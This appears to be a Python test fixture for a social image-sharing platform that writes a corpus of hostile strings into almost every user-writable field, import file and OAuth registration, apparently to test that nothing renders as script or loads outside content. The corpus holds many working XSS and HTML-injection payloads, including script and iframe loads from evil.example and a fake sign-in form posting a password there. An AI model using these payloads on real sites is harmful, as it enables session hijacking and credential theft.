"""Words that try to become a script or to fetch something, and a place where they stand in every field people have."""

import datetime as dt
import io
import json
from pathlib import Path
from typing import Any
from zipfile import ZipFile

from PIL import Image

from salon.safety.house import PAPERS
from tests.stories.behind import age
from tests.stories.conftest import Guest, Place
from tests.stories.test_datasets import make_release
from tests.stories.test_reading import upload
from tests.stories.test_running import wait_for
from tests.stories.test_studio import make_quietly

EVIL = "https://evil.example"
SALON = "/api/salon/v1"
# Short enough for a name.
SHORT = [
    "<script>ran()</script>",
    "<img src onerror=ran()>",
    "<svg onload=ran()>",
    "<a href=javascript:ran()>x",
    '"onfocus=ran() autofocus="',
    "{@html ran()}${ran()}{{1+1}}",
    "'><b onclick=ran()>x</b>",
    "&lt;script&gt;ran()",
    "</title><script>ran()",
    "\u202e<img src=//evil.example>",
]
LONG = [
    *SHORT,
    f'<script src="{EVIL}/a.js"></script>',
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<ScRiPt/x>ran()</sCrIpT\n>",
    f'<img src="{EVIL}/a.png" onload="ran()" style="background:url({EVIL}/b.png)">',
    f'<img srcset="{EVIL}/c.png 1x, {EVIL}/d.png 2x">',
    '<svg><script href="data:,ran()"/></svg>',
    '<svg><animate attributeName="href" values="javascript:ran()"/><a href="#">x</a></svg>',
    f'<svg><use href="{EVIL}/e.svg#x"/><image href="{EVIL}/f.png"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=ran()&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
    '<template><img src onerror="ran()"></template>',
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    f'<iframe src="{EVIL}/"></iframe><embed src="{EVIL}/g"><object data="{EVIL}/h"></object>',
    f'<base href="{EVIL}/"><link rel="stylesheet" href="{EVIL}/i.css">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<style>@import "{EVIL}/j.css"; body {{ background: url({EVIL}/k.png) }}</style>',
    f'<form action="{EVIL}"><input name="password" autofocus onfocus="ran()"><button>Sign in</button></form>',
    f'<video poster="{EVIL}/l.png"><source src="{EVIL}/m.mp4" onerror="ran()"></video><audio src="{EVIL}/n.mp3">',
    '<details open ontoggle="ran()"><marquee onstart="ran()"><input onbeforeinput="ran()">',
    '<a href="java&#x09;script:ran()">tab</a> <a href="&#106;avascript:ran()">entity</a>',
    '<a href="\x01javascript:ran()">control</a> <a href=" JaVaScRiPt:ran()">case</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">data</a> <a href="vbscript:ran()">vb</a>',
    "javascript:ran() data:text/html,<script>ran()</script> blob:x vbscript:ran()",
    "[a](javascript:ran()) ![b](https://evil.example/o.png) <javascript:ran()> `<img src onerror=ran()>`",
    "https://evil.example/\"onmouseover=ran() https://evil.example/'><script>ran()</script>",
    "https://evil.example/<svg/onload=ran()> http://javascript:ran()@evil.example/ //evil.example/p.png",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e <\u000bscript>ran()</script> \u2028<img\u00a0src\u3000onerror=ran()>",
    "%3Cscript%3Eran()%3C/script%3E \\u003cscript\\u003eran() \\x3cimg src onerror=ran()>",
    "]]><script>ran()</script><![CDATA[ --><script>ran()</script><!--",
    "</textarea></script></style></select></noscript><img src onerror=ran()>",
    "{{constructor.constructor('ran()')()}} <%= ran() %> #{ran()} {% ran() %} @{ran()}",
    "__proto__ constructor toString :<img src onerror=ran()>: #<svg/onload=ran()> @<b>x",
]
# Fields the API takes as words that hold none of people's own: ids, choices out of a list, secrets, languages, and
# addresses of the kind that are checked.
NO_WORDS = {
    *(
        "account_id",
        "account_ids[]",
        "report_id",
        "post_id",
        "model_id",
        "example_id",
        "status_id",
        "status_ids[]",
        "media_ids[]",
    ),
    *(
        "in_reply_to_id",
        "quoted_status_id",
        "id",
        "id[]",
        "chosen[]",
        "home.last_read_id",
        "notifications.last_read_id",
    ),
    *("tag_accounts.id", "tag_languages.id", "tag_uses.id", "keys[]", "frequency", "start_at", "end_at", "starts_at"),
    *(
        "ends_at",
        "scheduled_at",
        "language",
        "languages[]",
        "lang",
        "category",
        "type",
        "pile",
        "degree",
        "salon_degree",
    ),
    *("for_limited_accounts", "for_new_accounts", "for_not_followers", "for_not_following", "for_private_mentions"),
    *(
        "email",
        "invite",
        "invite_code",
        "password",
        "old",
        "new",
        "login",
        "code",
        "username",
        "audience",
        "descendants",
    ),
    *(
        "rules[].action",
        "rules[].audience",
        "rules[].label",
        "rules[].subject",
        "choice",
        "tag",
        "domain",
        "role",
        "age",
    ),
    *("everywhere.degrees[]", "feeds{}.degrees[]", "step", "engine", "mask", "size", "style", "url", "focus", "name"),
    *("attribution_domains[]", "redirect_uris", "redirect_uris[]", "scopes", "scope", "shortcode"),
    *("media", "chosen_languages[]", "media_id", "addresses[]", "address", "to", "key", "kind"),
    *("label", "scopes[]", "seen[].post_id", "seen[].surface", "reply_policy", "awaited", "seconded[]", "alike[]"),
    *("stricter", "level", "expires_at", "domains[]"),
    *("sources[]", "reasons[]"),
    *("value", "labels[].value", "labels[].severity", "choices{}"),
    *("grant_types[]", "response_types[]", "token_endpoint_auth_method"),
    "negative_prompt",  # the built-in engine takes none
}
# Those the corpus is written into, by the names the API has for them.
WRITTEN = {
    *("display_name", "note", "comment", "status", "spoiler_text", "poll.options[]", "description", "reason", "prompt"),
    *("title", "rules", "slots{}", "words", "text", "answer", "client_name", "website", "papers{}", "rules[].text"),
    *("rules[].hint", "prompts[]", "category", "phrase", "keyword"),
    *("avatar_description", "header_description", "client_uri", "explanation", "law", "field"),
    *("organisation", "contact", "never[]", "about", "labels[].name", "labels[].description"),
    "because",
}
# Routes of secrets and keys, whose words are never shown.
NO_ROUTES = ("/oauth/token", "/oauth/revoke", "/push/subscription", "/session", "/estimate", "/prompts/suggest")


class Scribe:
    """Writes hostile words into fields, and remembers by which mark each is known again."""

    def __init__(self) -> None:
        self.marks: dict[str, str] = {}

    def words(self, field: str, most: int = 4500) -> str:
        """As many of the corpus as fit, behind the field's own mark; another call begins elsewhere in it."""
        mark = self.marks.setdefault(field, f"q{len(self.marks):02}z")
        corpus = LONG if most > 60 else SHORT
        turn = len(self.marks) % len(corpus)
        text = mark
        for one in [*corpus[turn:], *corpus[:turn]]:
            if len(text) + len(one) < most:
                text += (" " if most < 300 else "\n") + one
        return text

    def line(self, field: str, most: int) -> str:
        """The same for a field of one line."""
        return " ".join(self.words(field, most).split())


class Cast:
    """Who wrote, what of it is shown where, and what only one page can show."""

    def __init__(self, place: Place) -> None:
        assert place.keeper is not None
        self.place, self.scribe, self.keeper = place, Scribe(), place.keeper
        self.member, self.other = place.invite(), place.invite()
        self.paths: dict[str, str] = {}


def write_everywhere(place: Place, outside: str, folder: Path) -> Cast:
    """People write the corpus into everything they may write."""
    cast = Cast(place)
    _introduce(cast)
    _post(cast, outside)
    _gather(cast)
    _keep(cast)
    _moderate(cast)
    _tell_of_what_is_illegal(cast)
    _run(cast)
    _bring(cast, folder)
    _annotate(cast)
    return cast


def _introduce(cast: Cast) -> None:
    member, scribe = cast.member, cast.scribe
    fields = [{"name": scribe.line(f"field {n} name", 250), "value": scribe.line(f"field {n}", 250)} for n in range(3)]
    profile = {
        "display_name": scribe.line("display_name", 30),
        "note": scribe.words("note", 480),
        "avatar_description": scribe.line("words for a portrait", 1400),
        "header_description": scribe.line("words for a header", 1400),
        "fields_attributes": [*fields, {"name": "site", "value": f"{EVIL}/'><img src onerror=ran()>"}],
    }
    _send(member, "PATCH", "/api/v1/accounts/update_credentials", profile)
    for name in SHORT:
        one = cast.place.invite()
        _send(one, "PATCH", "/api/v1/accounts/update_credentials", {"display_name": name[:30]})
        one.post(f"/api/v1/accounts/{member.id}/follow")
        # The corpus is a follower's name as well, and a wish with a name in it is one for a picture of them.
        one.put(f"{SALON}/age", {"age": "adult"})
        one.put(f"{SALON}/likeness", {"level": "everyone", "asks_first": False})
    cast.other.post(f"/api/v1/accounts/{member.id}/note", {"comment": scribe.words("private note", 1900)})
    member.post(f"/api/v1/accounts/{cast.other.id}/follow")


def _post(cast: Cast, outside: str) -> None:
    member, other, scribe = cast.member, cast.other, cast.scribe
    for one in LONG:
        member.post("/api/v1/statuses", {"status": one})
    picture = upload(member, (400, 300), (40, 90, 160))
    _send(member, "PUT", f"/api/v1/media/{picture}", {"description": scribe.words("alt text", 1400)})
    body = {"status": scribe.words("post"), "spoiler_text": scribe.line("warning", 200), "media_ids": [picture]}
    shown = member.post("/api/v1/statuses", body)
    cast.paths["/posts/[id]"] = f"/posts/{shown['id']}"
    options = [scribe.line(f"poll option {n}", 50) for n in range(4)]
    member.post("/api/v1/statuses", {"status": "Which?", "poll": {"options": options, "expires_in": 3600}})
    member.post("/api/v1/statuses", {"status": "#" + "".join(filter(str.isalnum, scribe.words("tag", 90)))})
    member.post("/api/v1/statuses", {"status": f"{outside}/card"})
    reply = {"status": f"@{member.username} Well.", "in_reply_to_id": shown["id"]}
    said = other.post("/api/v1/statuses", reply)
    _send(other, "PUT", f"/api/v1/statuses/{said['id']}", {"status": scribe.words("edit")})
    other.post("/api/v1/statuses", {"status": scribe.words("quoting"), "quoted_status_id": shown["id"]})
    hush = {"status": f"@{member.username} {scribe.words('direct')}", "visibility": "direct"}
    other.post("/api/v1/statuses", hush)
    reason = {"degree": "generated", "reason": scribe.words("dispute reason", 900)}
    other.post(f"{SALON}/media/{picture}/disputes", reason)
    again = upload(member, (300, 300), (160, 90, 40))
    member.post("/api/v1/statuses", {"status": "Another.", "media_ids": [again]})
    more = {"degree": "assisted", "reason": scribe.words("second dispute", 900)}
    dispute = other.post(f"{SALON}/media/{again}/disputes", more)
    settled = {"degree": "assisted", "note": scribe.words("dispute note", 900)}
    cast.keeper.post(f"{SALON}/disputes/{dispute['id']}/settle", settled)


def _gather(cast: Cast) -> None:
    member, scribe = cast.member, cast.scribe
    make_quietly(member, prompt=scribe.line("prompt", 480))
    drawn = member.get(f"{SALON}/generations")[0]["media"][0]
    hill = member.post("/api/v1/statuses", {"status": "Drawn here.", "media_ids": [drawn["id"]]})
    cast.paths["/posts/[id]/lineage"] = f"/posts/{hill['id']}/lineage"
    ends_at = (dt.datetime.now(dt.UTC) + dt.timedelta(days=1)).isoformat()
    call = {"title": scribe.line("challenge", 80), "rules": scribe.words("challenge rules", 1900)}
    made = member.post(f"{SALON}/challenges", {**call, "tag": "grounds", "ends_at": ends_at})
    cast.paths["/challenges/[id]"] = f"/challenges/{made['id']}"
    chain = {"title": scribe.line("chain", 80), "post_id": hill["id"], "most_turns": 3}
    cast.paths["/chains/[id]"] = f"/chains/{member.post(f'{SALON}/chains', chain)['id']}"
    prompt = scribe.line("template prompt", 400).replace("{", "(").replace("}", ")") + " {time}"
    template = {"title": scribe.line("template", 80), "prompt": prompt, "example_id": hill["id"]}
    made = member.post(f"{SALON}/templates", template)
    cast.paths["/templates/[id]"] = f"/templates/{made['id']}"
    filled = {"slots": {"time": scribe.line("slot", 80)}}
    cast.other.post(f"{SALON}/templates/{made['id']}/fills", filled)


def _keep(cast: Cast) -> None:
    member, scribe = cast.member, cast.scribe
    made = member.post("/api/v1/lists", {"title": scribe.line("list", 250)})
    cast.paths["/lists/[id]"] = f"/lists/{made['id']}"
    words = [{"keyword": scribe.line("filter keyword", 250)}]
    wish = {"title": scribe.line("filter", 250), "context": ["home"], "keywords_attributes": words}
    member.post("/api/v2/filters", wish)
    kind = {"value": "loud", "severity": "show", "name": scribe.line("label", 60)}
    kind["description"] = scribe.words("meaning of a label", 480)
    cast.other.put(f"{SALON}/labeler", {"about": scribe.words("labeler", 980), "labels": [kind]})
    put = cast.other.post(f"{SALON}/labels", {"value": "loud", "account_id": member.id})
    asked = member.post(f"{SALON}/labels/{put['id']}/appeal", {"text": scribe.words("objection to a label", 900)})
    kept = {"keep": True, "text": scribe.words("why a label stays", 900)}
    cast.other.post(f"{SALON}/labels/appeals/{asked['id']}/answer", kept)
    member.put(f"{SALON}/labelers/{cast.other.id}/subscription", {"choices": {}})
    member.post(f"{SALON}/feedback", {"words": scribe.words("feedback", 1900)})
    member.post(f"{SALON}/rights/requests", {"words": scribe.words("request by right", 1900)})
    likeness = {"scope": scribe.line("scope of likeness", 500), "never": [scribe.line("word of likeness", 40)]}
    member.put(f"{SALON}/likeness", {"level": "me", **likeness})
    app = {"client_name": scribe.line("app", 60), "website": f"{EVIL}/app", "scopes": "read"}
    known = member.post("/api/v1/apps", {**app, "redirect_uris": "urn:ietf:wg:oauth:2.0:oob"})
    registered = {"client_name": scribe.line("assistant", 60), "client_uri": f"{EVIL}/<svg/onload=ran()>"}
    callback = {"redirect_uris": ["http://127.0.0.1:9/back"], "token_endpoint_auth_method": "none"}
    assistant = member.client.post("/oauth/register", json=registered | callback)
    assert assistant.is_success, assistant.text
    proof = f"code_challenge={'a' * 43}&code_challenge_method=S256&redirect_uri=http://127.0.0.1:9/back"
    cast.paths["letting in"] = f"/oauth/authorize?client_id={assistant.json()['client_id']}&response_type=code&{proof}"
    query = f"client_id={known['client_id']}&redirect_uri=urn:ietf:wg:oauth:2.0:oob&response_type=code&scope=read"
    cast.paths["consent"] = f"/oauth/authorize?{query}"
    later = (dt.datetime.now(dt.UTC) + dt.timedelta(days=1)).isoformat()
    member.post("/api/v1/statuses", {"status": scribe.words("scheduled"), "scheduled_at": later})


def _moderate(cast: Cast) -> None:
    keeper, member, other, scribe = cast.keeper, cast.member, cast.other, cast.scribe
    said = other.post("/api/v1/statuses", {"status": scribe.words("reported post")})
    report = {"account_id": other.id, "status_ids": [said["id"]], "comment": scribe.words("report", 900)}
    member.post("/api/v1/reports", report)
    gone = member.post("/api/v1/statuses", {"status": scribe.words("post taken down")})
    keeper.post(f"{SALON}/admin/takedowns", {"post_id": gone["id"], "reason": scribe.words("takedown reason", 900)})
    decision = member.get(f"{SALON}/decisions")[0]
    member.post(f"{SALON}/decisions/{decision['id']}/appeal", {"text": scribe.words("appeal", 1900)})
    keeper.post(f"{SALON}/admin/notes", {"account_id": other.id, "words": scribe.words("staff note", 1900)})
    warning = {"type": "none", "text": scribe.words("warning of the staff")}
    _send(keeper, "POST", f"/api/v1/admin/accounts/{member.id}/action", warning)
    role = {"role": "moderator", "reason": scribe.words("reason of a role", 900)}
    _send(keeper, "PUT", f"{SALON}/admin/accounts/{other.id}/role", role)
    keeper.post(f"{SALON}/admin/policies", {"rules": [], "note": scribe.words("policy note", 900)})
    _propose(cast)
    _hold(cast)
    trusted = {"trusted": True, "field": scribe.line("field of a flagger", 190)}
    _send(keeper, "PUT", f"{SALON}/admin/accounts/{other.id}/trusted_flagger", trusted)
    form = {"name": scribe.line("name of a list", 90), "label": "removed"}
    file = {"file": ("list.txt", b"0" * 64, "text/plain")}
    brought = keeper.client.post(f"{SALON}/admin/known_lists", data=form, files=file)
    assert brought.is_success, brought.text
    entry = next(one for one in keeper.get(f"{SALON}/admin/feedback") if one["words"].startswith("q"))
    keeper.post(f"{SALON}/admin/feedback/{entry['id']}", {"answer": scribe.words("answer to feedback", 1900)})
    asked = f"{SALON}/admin/rights/{keeper.get(f'{SALON}/admin/rights')[0]['id']}"
    keeper.post(f"{asked}/extend", {"because": scribe.words("why a request takes longer", 1900)})
    keeper.post(f"{asked}/answer", {"answer": scribe.words("answer to a request", 1900)})


def _put_in_force(cast: Cast, policy: dict[str, Any]) -> None:
    keeper = cast.keeper
    version = keeper.post(f"{SALON}/admin/policies", policy)["version"]
    wait_for(lambda: keeper.get(f"{SALON}/admin/policies")["versions"][0]["replay"] is not None)
    answer = keeper.post(f"{SALON}/admin/policies/{version}/live")
    if "proposed_by_id" in answer:
        cast.other.post(f"{SALON}/admin/proposals/{answer['id']}/agree")


def _hold(cast: Cast) -> None:
    """A post that waits for a moderator."""
    _put_in_force(cast, {"rules": [{"label": "sexual", "subject": "post", "threshold": 0.5, "action": "hold"}]})
    cast.member.post("/api/v1/statuses", {"status": f"nude figure study\n{cast.scribe.words('post that waits')}"})
    _put_in_force(cast, {"rules": []})


def _propose(cast: Cast) -> None:
    """A suspension that waits for another of the staff; the policy that asks for two goes again with the next one."""
    keeper, scribe = cast.keeper, cast.scribe
    for seconded in (["account.suspend"], []):
        _put_in_force(cast, {"rules": [], "seconded": seconded})
        if seconded:
            suspension = {"type": "suspend", "text": scribe.words("reason of a proposal", 900)}
            _send(keeper, "POST", f"/api/v1/admin/accounts/{cast.other.id}/action", suspension)


def _tell_of_what_is_illegal(cast: Cast) -> None:
    """Two notices of a stranger's: one that waits, and one that was answered and is appealed."""
    scribe, notices = cast.scribe, f"{SALON}/notices"
    for which in ("open", "answered"):
        post = cast.other.post("/api/v1/statuses", {"status": f"Told of: {which}"})
        notice = {
            "explanation": scribe.words(f"{which} notice", 900),
            "law": scribe.line("law", 200),
            "name": scribe.line("name of who sends a notice", 60),
            "addresses": [f"/posts/{post['id']}"],
            "email": "somebody@example.org",
            "good_faith": True,
        }
        sent = cast.member.post(notices, notice)
        cast.paths[f"{which} notice"] = f"/notice?id={sent['id']}&key={sent['key']}"
    ruling = {"remove": False, "answer": scribe.words("answer to a notice", 900)}
    cast.keeper.post(f"{SALON}/admin/notices/{sent['id']}/decide", ruling)
    cast.member.post(f"{notices}/{sent['id']}/appeal", {"text": scribe.words("appeal of a notice", 900)})


def _run(cast: Cast) -> None:
    keeper, scribe = cast.keeper, cast.scribe
    rules = [{"text": scribe.words("rule", 900), "hint": scribe.words("hint of a rule", 900)}]
    papers = {name: scribe.words(f"paper {name}") for name in PAPERS}
    _send(keeper, "PUT", f"{SALON}/place", {"rules": rules, "papers": papers})
    keeper.post(f"{SALON}/announcements", {"text": scribe.words("announcement")})
    _send(keeper, "PUT", f"{SALON}/admin/daily_prompts", {"prompts": [scribe.line("prompt of the day", 200)]})
    recipient = {name: scribe.line(f"{name} of a recipient", 190) for name in ("organisation", "contact")}
    keeper.post(f"{SALON}/admin/recipients", recipient)
    cast.paths["/datasets/[name]"] = f"/datasets/{make_release(keeper)}"
    dot = io.BytesIO()
    Image.new("P", (8, 8)).save(dot, "GIF")
    form = {"shortcode": "dot", "category": scribe.line("emoji category", 60)}
    sent = keeper.client.post(f"{SALON}/emojis", data=form, files={"image": ("dot.gif", dot.getvalue(), "image/gif")})
    assert sent.is_success, sent.text


def _bring(cast: Cast, folder: Path) -> None:
    """An archive of Mastodon's whose HTML, warnings, words for pictures and polls are hostile."""
    me, at = "https://social.example/users/anna", "2021-03-04T05:06:07Z"
    scribe = cast.scribe
    poll = [{"name": scribe.line(f"imported option {n}", 50)} for n in range(2)]
    notes = [{"content": f"said: {one}"} for one in LONG] + [
        {"content": f"<p>{scribe.words('imported post')}</p>", "summary": scribe.line("imported warning", 200)},
        {"content": "<p>Which?</p>", "type": "Question", "oneOf": poll},
    ]
    everyone = ["https://www.w3.org/ns/activitystreams#Public"]
    items = []
    for number, note in enumerate(notes):
        kept = {"id": f"{me}/statuses/{number}", "type": "Note", "published": at, "to": everyone, "cc": [], **note}
        items.append(
            {"id": f"{kept['id']}/activity", "type": "Create", "published": at, "object": kept, "to": everyone}
        )
    path = folder / "archive.zip"
    with ZipFile(path, "w") as archive:
        person = {"id": me, "type": "Person", "preferredUsername": "anna", "name": SHORT[1], "summary": LONG[13]}
        archive.writestr("actor.json", json.dumps(person))
        archive.writestr("outbox.json", json.dumps({"type": "OrderedCollection", "orderedItems": items}))
    files = {"file": ("archive.zip", path.read_bytes(), "application/zip")}
    sent = cast.member.client.post(f"{SALON}/imports", files=files)
    assert sent.is_success, sent.text
    wait_for(lambda: cast.member.get(f"{SALON}/imports/{sent.json()['id']}")["state"] == "ready", 120)


def _annotate(cast: Cast) -> None:
    """A note about a post of the member's."""
    age(cast.place, cast.other)
    note = {"text": cast.scribe.words("note about a post", 390), "sources": [f"{EVIL}/source"], "reason": "other"}
    path = cast.paths["/posts/[id]"].removeprefix("/posts/")
    proposed = cast.other.post(f"{SALON}/posts/{path}/context", note)["notes"]
    cast.paths["/context/[id]"] = f"/context/{proposed[0]['id']}"


def _send(guest: Guest, method: str, path: str, body: Any) -> None:
    answer = guest.client.request(method, path, json=body)
    assert answer.is_success, f"{path}: {answer.text}"
